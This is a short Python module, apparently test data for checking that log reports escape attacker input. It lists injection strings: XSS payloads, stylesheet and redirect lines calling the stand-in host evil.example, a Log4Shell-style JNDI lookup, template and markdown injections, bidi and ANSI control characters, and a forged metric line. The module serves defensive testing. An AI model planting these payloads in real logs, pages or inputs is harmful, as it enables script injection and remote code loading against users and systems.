"""What an attacker would write into a log whose report is opened in a browser, a ticket or a pipeline."""

from __future__ import annotations

INJECTIONS = (
    "<script>document.title='owned'</script>",
    "</script><script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<svg/onload=document.title='owned'>",
    "\"><svg onload=\"document.title='owned'\">",
    "' onmouseover='document.title=1' x='",
    "</style><style>@import url(//evil.example/x.css);</style>",
    "</title></head><body onload=document.title='owned'>",
    "<iframe src=javascript:document.title='owned'></iframe>",
    "<a href=javascript:alert(1)>click</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<!--", "-->", "<![CDATA[", "]]>", "&lt;script&gt;", "&#x3c;script&#x3e;", "%3Cscript%3E",
    "{{7*7}}", "${jndi:ldap://evil.example/x}", "{0}", "[click](javascript:alert(1))", "![x](//evil.example/x.png)",
    "`code` | table | **bold** @everyone #1", "``` \n# heading", "a\u2028b\u2029c", "\u202eevil\u202c",
    "\x1b[2J\x00\x07", "a\" b='c'", "x\ny\tz", '\\"} 1\nfake_metric 1',
)  # fmt: skip
